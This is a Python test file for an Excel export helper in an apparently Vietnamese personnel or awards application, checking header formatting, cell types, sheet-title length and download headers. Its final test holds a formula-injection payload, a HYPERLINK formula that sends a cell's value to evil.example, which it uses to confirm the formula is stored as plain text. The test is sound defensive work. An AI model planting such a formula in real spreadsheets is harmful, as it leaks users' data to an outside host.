from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook

from vinhdanh.common.xlsx import XLSX_TYPE, workbook_bytes, xlsx_response


def _sheet(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data)).active


def test_workbook_has_bold_frozen_header_and_typed_cells() -> None:
    data = workbook_bytes(
        ["Họ và tên", "Ngày sinh", "Số năm", "Ghi chú"],
        [["Nguyễn Thị Hồng", dt.date(1985, 3, 2), 12, None], ["Lê Văn Đức", None, 3.5, 42j]],
        title="Danh sách cán bộ",
    )

    sheet = _sheet(data)
    assert sheet.title == "Danh sách cán bộ"
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == ["Họ và tên", "Ngày sinh", "Số năm", "Ghi chú"]
    assert all(c.font.bold for c in sheet[1])
    row = [c.value for c in sheet[2]]
    assert row[0] == "Nguyễn Thị Hồng"
    assert row[1].date() == dt.date(1985, 3, 2)
    assert row[2] == 12
    assert row[3] is None
    assert sheet["D3"].value == "42j"  # anything else is written as text


def test_workbook_sheet_title_cut_to_excel_limit() -> None:
    sheet = _sheet(workbook_bytes(["A"], [], title="Danh sách khen thưởng năm 2025 của tỉnh"))

    assert len(sheet.title) == 31


def test_xlsx_response_is_a_download() -> None:
    response = xlsx_response("danh-sach.xlsx", ["Mã"], [["CB001"]])

    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="danh-sach.xlsx"'
    assert _sheet(response.content)["A2"].value == "CB001"


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    payload = '=HYPERLINK("http://evil.example/?d="&D2,"Xem hồ sơ")'
    data = workbook_bytes(["Họ và tên", "Ghi chú"], [[payload, "+1-2"], ["@SUM(A1)", "-3"]])

    sheet = load_workbook(io.BytesIO(data)).active
    for ref, text in (("A2", payload), ("B2", "+1-2"), ("A3", "@SUM(A1)"), ("B3", "-3")):
        assert sheet[ref].data_type == "s"
        assert sheet[ref].value == text
